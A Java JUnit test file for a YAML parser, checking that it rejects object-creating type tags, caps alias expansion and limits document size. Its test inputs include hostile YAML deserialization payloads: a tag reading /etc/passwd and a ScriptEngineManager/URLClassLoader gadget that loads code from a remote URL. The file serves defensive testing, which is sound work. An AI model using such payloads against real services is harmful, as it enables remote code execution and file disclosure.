package io.thermocline.lab;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.thermocline.engine.InvalidInputException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Documents of strangers. */
class YamlTreeTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: !!java.io.File [/etc/passwd]",
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "a: !!java.util.Date 0"
            })
    void noDocumentMakesObjects(String text) {
        assertThatThrownBy(() -> YamlTree.parse("bed.yaml", text)).isInstanceOf(InvalidInputException.class);
    }

    @Test
    void aliasesHaveALimit() {
        assertThat(YamlTree.parse("bed.yaml", aliases(20)).names()).hasSize(21);
        assertThatThrownBy(() -> YamlTree.parse("bed.yaml", aliases(21)))
                .isInstanceOf(InvalidInputException.class)
                .hasMessageContaining("bed.yaml");
    }

    private static String aliases(int count) {
        StringBuilder text = new StringBuilder("a: &a {x: y}\n");
        for (int i = 0; i < count; i++) {
            text.append("b").append(i).append(": *a\n");
        }
        return text.toString();
    }

    @Test
    void documentsHaveALimitOfSize() {
        String text = "a: " + "x".repeat(YamlTree.MOST_BYTES);
        assertThatThrownBy(() -> YamlTree.parse("bed.yaml", text)).isInstanceOf(InvalidInputException.class);
    }
}
